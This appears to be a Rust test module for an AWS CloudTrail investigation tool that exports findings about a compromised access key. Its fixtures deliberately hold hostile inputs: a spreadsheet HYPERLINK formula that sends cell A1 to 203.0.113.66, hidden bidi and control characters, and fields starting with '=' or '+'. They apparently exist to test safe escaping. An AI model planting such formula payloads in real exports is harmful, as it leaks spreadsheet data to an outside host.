//! A small investigation, exported.

mod evidence;
mod views;

use std::collections::HashMap;
use std::error::Error;
use std::fs;
use std::path::Path;

use chrono::{DateTime, Utc};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use tempfile::TempDir;

use super::*;
use crate::cloudtrail::event::Interner;
use crate::cloudtrail::{EventKey, Record, time};
use crate::investigation::change::{Snapshot, SnapshotOf};
use crate::investigation::fact::{
    FileOutcome, FileReport, ItemMarked, ItemState, Judged, Page, PassBegan, PassEnded, Problem, RegionCount, Started,
};
use crate::investigation::timeline::Filter;
use crate::investigation::{Fact, Verdict, What};
use crate::playbook::{Names, Playbook, Standings};

const ACCOUNT: &str = "111122223333";
const SEED: &str = "AKIAIOSFODNN7EXAMPLE";
const OTHER: &str = "AKIAI44QH8DHBEXAMPLE";
const AGENT: &str = "=HYPERLINK(\"http://203.0.113.66/\"&A1,\"\u{202e}x\")\r\n\0,\"";

fn at() -> DateTime<Utc> {
    time::parse_text("2026-03-01T10:00:00Z").unwrap()
}

fn record(second: u32, key: Option<&str>, name: &str, more: &Value) -> Record {
    let mut body = json!({
        "eventID": format!("event-{second}"), "eventName": name, "eventSource": "iam.amazonaws.com",
        "eventTime": format!("2026-01-01T00:00:{second:02}Z"), "awsRegion": "us-east-1",
        "recipientAccountId": ACCOUNT, "sourceIPAddress": "203.0.113.66", "userAgent": AGENT, "readOnly": false,
        "userIdentity": {"type": "IAMUser", "principalId": "AIDAIOSFODNN7EXAMPLE", "userName": "app",
            "arn": format!("arn:aws:iam::{ACCOUNT}:user/app"), "accountId": ACCOUNT},
    });
    if let Some(key) = key {
        body["userIdentity"]["accessKeyId"] = key.into();
    }
    for (member, value) in more.as_object().unwrap() {
        body[member] = value.clone();
    }
    Record::parse(body.to_string().as_bytes(), &mut Interner::default()).unwrap()
}

/// A second key, a user of hostile name that is deleted again, a denied call, and somebody else's call.
fn records() -> Vec<Record> {
    let name = "@x\u{202e}y";
    let user = json!({"user": {"userName": name, "userId": "AIDAEXAMPLENEWUSER",
        "arn": format!("arn:aws:iam::{ACCOUNT}:user/{name}")}});
    let key = json!({"accessKey": {"accessKeyId": OTHER, "userName": "app"}});
    let denied = json!({"errorCode": "AccessDenied", "errorMessage": "-no\tno"});
    let admin = json!({"type": "IAMUser", "principalId": "AIDAEXAMPLEADMIN", "accessKeyId": "AKIAEXAMPLEADMIN0001",
        "userName": "admin", "accountId": ACCOUNT});
    vec![
        record(9, Some(OTHER), "CreateUser", &denied),
        record(
            1,
            Some(SEED),
            "CreateAccessKey",
            &json!({"requestParameters": null, "responseElements": key}),
        ),
        record(
            2,
            Some(OTHER),
            "CreateUser",
            &json!({"requestParameters": {"userName": name}, "responseElements": user}),
        ),
        record(
            5,
            Some(OTHER),
            "DeleteObject",
            &json!({"eventSource": "s3.amazonaws.com", "resources": [{"ARN": "arn:aws:s3:::a"}, {"ARN": "+b"}]}),
        ),
        record(
            20,
            None,
            "DeleteUser",
            &json!({"requestParameters": {"userName": name}, "userIdentity": admin,
            "sourceIPAddress": "198.51.100.7"}),
        ),
    ]
}

struct Held {
    investigation: Investigation,
    bodies: HashMap<EventKey, String>,
}

impl Case for Held {
    fn investigation(&self) -> &Investigation {
        &self.investigation
    }

    fn body(&self, key: &EventKey) -> Result<Option<String>, Box<dyn Error + Send + Sync>> {
        match self.bodies.get(key) {
            Some(body) if body.is_empty() => Err("unreadable".into()),
            body => Ok(body.cloned()),
        }
    }

    fn journal(&self) -> Journal {
        Journal {
            head: "ab".repeat(32),
            facts: 5,
            integrity: "whole".to_owned(),
        }
    }
}

fn held_from(seed: &str) -> Held {
    let mut investigation = Investigation::default();
    let mut apply = |what| investigation.apply(&Fact { at: at(), what });
    apply(What::Started(Started {
        seeds: vec![seed.to_owned()],
        tool_version: "0.1.0".to_owned(),
        playbook_text: None,
        notice: None,
        playbook: "compromised-access-key".to_owned(),
    }));
    apply(What::PassBegan(PassBegan {
        sources: vec!["logs".to_owned()],
        since: None,
        until: time::parse_text("2026-02-01T00:00:00Z"),
        bucket: None,
        aws: None,
        tables: None,
    }));
    apply(What::Page(Page {
        origin: "logs/a".into(),
        records: records(),
    }));
    let file = |path: &str, outcome, broken| FileReport {
        path: path.into(),
        sha256: "cd".repeat(32),
        bytes: 10,
        outcome,
        records: 6,
        problems: vec![Problem {
            place: "line 3".into(),
            reason: "cut off".into(),
        }],
        broken,
        regions: vec![RegionCount {
            account: ACCOUNT.into(),
            region: "us-east-1".into(),
            records: 6,
            first: time::parse_text("2026-01-01T00:00:01Z"),
            last: time::parse_text("2026-01-01T00:00:20Z"),
        }],
    };
    apply(What::FilesRead {
        files: vec![
            file("logs/a", FileOutcome::Read, 0),
            file("=b", FileOutcome::Partial, 2),
        ],
    });
    apply(What::PassEnded(PassEnded {
        fixed_point: true,
        cut_short: None,
    }));
    apply(What::Judged(Judged {
        subject: OTHER.into(),
        verdict: Verdict::Malicious,
        by: "ana".into(),
    }));
    apply(What::ItemMarked(ItemMarked {
        item: "S1-01".into(),
        state: ItemState::Done,
        note: "=done".into(),
        by: "ana".into(),
    }));
    investigation.settle();
    let bodies = records()
        .into_iter()
        .map(|r| (r.event.key, r.body.to_string()))
        .collect();
    Held { investigation, bodies }
}

fn held() -> Held {
    held_from(SEED)
}

fn playbook() -> Playbook {
    let item = |id: &str| format!("[[step.item]]\nid = '{id}'\ntitle = 'Find out'\nwhy = ''\ntime_box = '30 min'\n");
    let text = format!(
        "format = 'keytrail-playbook/1'\nid = 'own'\ntitle = ''\ndescription = ''\n[[step]]\nnumber = 1\ntitle = ''\n\
         intro = ''\n{}{}evidence = ['iam:CreateUser']\ncheck = 'none_seen'\n",
        item("S1-01"),
        item("S1-02")
    );
    crate::playbook::parse(&text).unwrap()
}
